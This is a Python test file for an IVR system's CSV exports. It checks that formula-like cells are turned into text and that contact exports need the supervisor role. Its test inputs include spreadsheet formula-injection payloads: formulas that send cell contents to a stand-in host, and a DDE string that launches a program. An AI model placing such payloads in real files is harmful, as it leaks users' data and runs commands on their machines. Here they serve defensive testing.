"""Every CSV the API and the CLI write: no cell a spreadsheet would run as a formula; contact exports are a
supervisor's."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from ivr.core import csvsafe
from ivr.reports import service as reports
from ivr.api.access import AccessService
from ivr.api.app import build_app
from ivr.api.services import Services
from ivr.campaigns.service import CampaignService
from ivr.campaigns import contacts, contacts_parse

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_become_text(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "", "1 (555) 0100", "a=b", "'already text", 5, -3, 2.5, None])
def test_other_cells_are_left_alone(value: Any) -> None:
    assert csvsafe.cell(value) == value


def test_report_csv() -> None:
    rows = [{"period": "=cmd()", "calls": -1, "answered": "@x"}]
    parsed = list(csv.DictReader(io.StringIO(reports.to_csv(rows))))
    assert parsed[0]["period"] == "'=cmd()" and parsed[0]["answered"] == "'@x"
    assert parsed[0]["calls"] == "-1"           # a number the report computed: written as it is


class FakeRedis:
    """The two calls export_csv makes: the sequence, then HGETALLs in a pipeline."""

    def __init__(self, hashes: list[dict[str, str]]) -> None:
        self.hashes = hashes

    async def get(self, key: str) -> str:
        return str(len(self.hashes))

    def pipeline(self, transaction: bool = False) -> "FakeRedis":
        self.queued: list[int] = []
        return self

    async def __aenter__(self) -> "FakeRedis":
        return self

    async def __aexit__(self, *exc: Any) -> None:
        return None

    def hgetall(self, key: str) -> None:
        self.queued.append(int(key.rsplit(":", 1)[1]))

    async def execute(self) -> list[dict[str, str]]:
        return [self.hashes[n - 1] for n in self.queued]


async def test_contact_export_cells_cannot_be_formulas_and_numbers_read_back() -> None:
    redis = FakeRedis([{"number": "+442079460000", "name": "=IMPORTXML(CONCAT(\"http://x.example/\",A2))",
                        "status": "done", "last_outcome": "-x"}])
    out = io.StringIO(newline="")
    assert await contacts.export_csv(redis, "ivr", "c1", out) == 1  # type: ignore[arg-type]
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["number"] == "'+442079460000" and row["name"].startswith("'=") and row["last_outcome"] == "'-x"
    # the apostrophe does not stop the number being used again: an import reads it as it was
    again = contacts_parse.validate_row({"number": row["number"], "name": "Ann"}, 2)
    assert isinstance(again, contacts_parse.Contact) and again.number == "+442079460000"


async def test_contact_export_needs_a_supervisor() -> None:
    async def verify(token: str) -> dict[str, str] | None:
        return {"name": token, "role": token} if token in ("viewer", "supervisor") else None

    async def get(cid: str) -> None:
        return None                                   # no such campaign: 404 once past the role check
    store: Any = SimpleNamespace(verify_token=verify)
    dialer: Any = SimpleNamespace(get=get)
    services = Services(access=AccessService(store, store, fail_limit=10, fail_window=60),
                        campaigns=CampaignService(dialer, store, (), ("en",)))
    async with TestClient(TestServer(build_app(services))) as client:
        async with client.get("/api/v1/campaigns/c1/export", headers={"Authorization": "Bearer viewer"}) as resp:
            assert resp.status == 403 and "needs the supervisor role" in (await resp.json())["error"]
        async with client.get("/api/v1/campaigns/c1/export", headers={"Authorization": "Bearer supervisor"}) as resp:
            assert resp.status == 404
